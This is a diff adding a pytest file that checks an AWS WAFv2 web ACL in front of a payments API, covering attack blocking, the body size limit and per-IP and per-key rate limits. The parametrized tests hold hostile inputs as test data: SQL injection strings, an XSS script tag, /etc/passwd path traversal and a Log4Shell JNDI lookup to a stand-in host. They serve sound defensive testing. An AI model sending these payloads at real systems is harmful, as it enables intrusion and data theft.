@@ -1,0 +1,150 @@
+"""What the synthesized web ACL does to requests, in front of a real listener and a real upstream."""
+
+import asyncio
+import copy
+from collections.abc import Callable, Mapping
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import ClientSession
+
+from stages.firewall import BODY_LIMIT, RATE_LIMIT_PER_IP, RATE_LIMIT_PER_KEY
+from tests.rehearsal.compute.balancer_stage import Stage, echo, play_in
+from tests.stages.model import Templates
+
+pytestmark = pytest.mark.rehearsal
+
+PROBLEMS = {403: "request_blocked", 413: "content_too_large", 429: "too_many_requests"}
+LIMIT = 10
+"""What the rates of 30,000 are scaled down to."""
+
+
+@pytest.fixture
+def play(each: Templates, tmp_path: Path) -> Callable[..., None]:
+    """Play a scenario with a load balancer behind the synthesized web ACL."""
+    return partial(play_in, tmp_path, web_acl=described(each))
+
+
+def described(templates: Templates) -> dict[str, Any]:
+    """The web ACL as WAFv2 describes it."""
+    return {**copy.deepcopy(dict(templates.one("AWS::WAFv2::WebACL").properties)), "ARN": "arn:acl"}
+
+
+def scaled(acl: dict[str, Any], **limits: int) -> dict[str, Any]:
+    """The same web ACL with other limits."""
+    for rule in acl["Rules"]:
+        if rule["Name"] in limits:
+            rule["Statement"]["RateBasedStatement"]["Limit"] = limits[rule["Name"]]
+    return acl
+
+
+async def ask(client: ClientSession, method: str, path: str, **options: Any) -> tuple[int, Mapping[str, str], Any]:
+    async with client.request(method, path, **options) as answer:
+        body = await answer.json(content_type="application/json")
+        if answer.status in PROBLEMS:
+            assert (body["status"], body["code"]) == (answer.status, PROBLEMS[answer.status])
+            assert body["type"] == f"/docs#{body['code']}"
+        return answer.status, answer.headers, body
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"path": "/v1/payments?reference=1'%20UNION%20SELECT%20password%20FROM%20users--"},
+        {"path": "/v1/payments/1'%20or%201=1--"},
+        {"path": "/v1/payments", "headers": {"Cookie": "session=1' or 1=1--"}},
+        {"path": "/v1/payments?reference=%3Cscript%3Ealert(1)%3C/script%3E"},
+        {"path": "/v1/payments?reference=../../../etc/passwd"},
+        {"path": "/v1/payments", "headers": {"Idempotency-Key": "${jndi:ldap://192.0.2.1/a}"}},
+    ],
+)
+def test_attacks_are_answered_with_a_problem(play: Callable[..., None], options: dict[str, Any]) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        async with stage.client() as client:
+            assert (await ask(client, "GET", **options))[0] == 403
+
+    play(scenario)
+
+
+def test_an_attack_is_blocked_whatever_the_body_says_besides(play: Callable[..., None]) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        path = "/v1/payments?reference=1'%20UNION%20SELECT%20password%20FROM%20users--"
+        async with stage.client() as client:
+            assert (await ask(client, "POST", path, json={"description": "' OR 1=1 --"}))[0] == 403
+
+    play(scenario)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "O'Brien; select option 1 -- see union",
+        "' OR 1=1 --",
+        "<script>alert(1)</script>",
+        "see ../../manual.pdf at http://192.0.2.1/ or http://169.254.169.254/",
+        "${jndi:ldap://192.0.2.1/a}",
+    ],
+)
+@pytest.mark.parametrize("path", ["/v1/payments", "/v1/processors/stripe/webhooks"])
+def test_legal_bodies_pass_whatever_their_text_says(play: Callable[..., None], path: str, text: str) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        payment = {"amount": 100, "currency": "EUR", "description": text, "metadata": {"note": text}}
+        async with stage.client() as client:
+            assert (await ask(client, "POST", path, json=payment))[0] == 200
+
+    play(scenario)
+
+
+def test_clients_that_do_not_name_themselves_are_served(play: Callable[..., None]) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        async with stage.client() as client:
+            assert (await ask(client, "GET", "/v1/payments", skip_auto_headers=["User-Agent"]))[0] == 200
+
+    play(scenario)
+
+
+def test_the_largest_body_passes_and_one_byte_more_does_not(play: Callable[..., None]) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        async with stage.client() as client:
+            sizes = {size: await ask(client, "POST", "/", data=b" " * size) for size in (BODY_LIMIT, BODY_LIMIT + 1)}
+        assert {size: status for size, (status, _, _) in sizes.items()} == {BODY_LIMIT: 200, BODY_LIMIT + 1: 413}
+        assert len(sizes[BODY_LIMIT][2]["body"]) == BODY_LIMIT
+
+    play(scenario)
+
+
+@pytest.mark.parametrize("rule", ["rate-limit-ip", "rate-limit-key"])
+def test_who_is_too_fast_is_told_when_to_come_back_and_is_served_then(
+    each: Templates, tmp_path: Path, rule: str
+) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        async with stage.client() as client:
+            one = {"Authorization": "Bearer one"}
+            answers = [await ask(client, "GET", "/", headers=one) for _ in range(LIMIT + 1)]
+            assert [status for status, _, _ in answers] == [200] * LIMIT + [429]
+            assert answers[-1][1]["Retry-After"] == "60"
+            other = 429 if rule == "rate-limit-ip" else 200
+            assert (await ask(client, "GET", "/", headers={"Authorization": "Bearer other"}))[0] == other
+            stage.now += 301
+            assert (await ask(client, "GET", "/", headers=one))[0] == 200
+
+    play_in(tmp_path, scenario, web_acl=scaled(described(each), **{rule: LIMIT}))
+
+
+def test_the_rates_are_what_a_busy_merchant_needs(each: Templates, tmp_path: Path) -> None:
+    async def scenario(stage: Stage) -> None:
+        await stage.target(echo)
+        async with stage.client() as client:
+            answers = await asyncio.gather(*(ask(client, "GET", "/") for _ in range(200)))
+        assert {status for status, _, _ in answers} == {200}
+
+    play_in(tmp_path, scenario, web_acl=described(each))
+    assert RATE_LIMIT_PER_IP / 300 == RATE_LIMIT_PER_KEY / 300 == 100
